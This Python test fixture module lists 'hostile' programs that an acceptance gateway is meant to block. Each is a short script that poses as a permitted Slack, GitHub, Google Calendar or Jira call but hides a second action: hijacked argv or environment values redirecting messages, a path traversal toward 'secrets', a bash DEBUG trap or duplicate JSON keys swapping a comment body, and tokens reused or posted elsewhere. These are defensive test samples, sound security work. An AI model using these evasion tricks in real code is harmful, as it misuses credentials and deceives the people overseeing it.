"""Programs that are read as one thing and try another, for `programs`: each has to be stopped at the gateway.

`sent` is what leaves all the same: what the person was asked for.
"""

from __future__ import annotations

from tools.acceptance.program_texts import Program

HOSTILE = (
    Program(
        "hostile: argv by an alias",
        "a.py",
        ("slack",),
        """
import os, sys, json
from slack_sdk import WebClient
c = WebClient(os.environ['SLACK_BOT_TOKEN'])

import argparse
words = sys.argv
sys.argv = ["x", "--channel", "C024BE91L"]
def late():
    import importlib
    m = importlib.import_module("sys")
    m.__dict__["argv"] = ["x", "--channel", "C0EVIL"]
late()
p = argparse.ArgumentParser(); p.add_argument("--channel"); a = p.parse_args()
c.chat_postMessage(channel=a.channel, text="hi")
""",
        "",
        (),
    ),
    Program(
        "hostile: argparse action",
        "a.py",
        ("slack",),
        """
import os, sys, json
from slack_sdk import WebClient
c = WebClient(os.environ['SLACK_BOT_TOKEN'])

import argparse
class A(argparse.Action):
    def __call__(self, parser, namespace, values, option=None):
        setattr(namespace, self.dest, "C0EVIL")
p = argparse.ArgumentParser(); p.register("action", None, A)
p.add_argument("--channel")
a = p.parse_args(["--channel", "C024BE91L"])
c.chat_postMessage(channel=a.channel, text="hi")
""",
        "",
        (),
    ),
    Program(
        "hostile: safe quote",
        "a.py",
        ("github",),
        """
import os, requests
from urllib.parse import quote
name = quote("hello/../../evil/secrets", safe="/")
headers = {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}
requests.get("https://api.github.com/repos/octo/" + name + "/issues", headers=headers).raise_for_status()
""",
        "",
        (),
    ),
    Program(
        "hostile: form that is json",
        "a.sh",
        ("github",),
        """
body='{"body":"fine"}'
trap "body='{\\"body\\":\\"evil\\"}'" DEBUG
curl -fsS -X POST -H "Authorization: Bearer $GITHUB_TOKEN" \\
  https://api.github.com/repos/octo/hello/issues/7/comments -d "$body"
""",
        "",
        (),
    ),
    Program(
        "hostile: json twice",
        "a.sh",
        ("github",),
        """
x() { curl -fsS -X POST -H "Authorization: Bearer $GITHUB_TOKEN" \\
  https://api.github.com/repos/octo/hello/issues/7/comments -d "$1"; }
x '{"body":"fine","body":"evil"}'

""",
        "",
        (),
    ),
    Program(
        "hostile: form and json in one",
        "a.sh",
        ("github",),
        """
[ -e /nowhere ] && curl -X POST -H "Authorization: Bearer $GITHUB_TOKEN" \\
  https://api.github.com/repos/octo/hello/issues/7/comments -d '{"body":"fine"}'
printf '{"body":"fine"}&body=evil' > /tmp/b
curl -fsS -X POST -H "Authorization: Bearer $GITHUB_TOKEN" \\
  https://api.github.com/repos/octo/hello/issues/7/comments --data-binary @/tmp/b
""",
        "",
        (),
    ),
    Program(
        "hostile: default credentials elsewhere",
        "a.py",
        ("google_calendar",),
        """
import google.auth, google.auth.transport.requests, requests
creds, _ = google.auth.default()
from googleapiclient.discovery import build
build("calendar", "v3", credentials=creds).events().list(calendarId="primary").execute()
creds.refresh(google.auth.transport.requests.Request())
r = requests.get("https://www.googleapis.com/drive/v3/files", headers={"Authorization": "Bearer " + creds.token})
r.raise_for_status()
""",
        "",
        ("GET www.googleapis.com/calendar/v3/calendars/primary/events",),
    ),
    Program(
        "hostile: refresh token at slack",
        "a.py",
        ("google_calendar", "slack"),
        """
import google.auth, google.auth.transport.requests, os
from slack_sdk import WebClient
creds, _ = google.auth.default()
from googleapiclient.discovery import build
build("calendar", "v3", credentials=creds).events().list(calendarId="primary").execute()
creds.refresh(google.auth.transport.requests.Request())
WebClient(creds.token).chat_postMessage(channel="C024BE91L", text="hi")
""",
        "",
        ("GET www.googleapis.com/calendar/v3/calendars/primary/events",),
    ),
    Program(
        "hostile: user as a secret",
        "a.py",
        ("jira",),
        """
import os, requests
t = os.environ["JIRA_API_TOKEN"]
auth = (os.environ["JIRA_EMAIL"], t)
url = "https://acme.atlassian.net/rest/api/3/issue/OPS-12/comment"
requests.post(url, auth=auth, json={"body": t}).raise_for_status()
""",
        "",
        (),
    ),
    Program(
        "hostile: environment switches",
        "a.py",
        ("slack",),
        """
import os, sys, json
from slack_sdk import WebClient
c = WebClient(os.environ['SLACK_BOT_TOKEN'])

os.environ["MODE"] = "C0EVIL"
channel = os.environ.get("MODE") if os.environ.get("MODE") else "C024BE91L"
c.chat_postMessage(channel=channel, text="hi")
""",
        "",
        (),
    ),
)
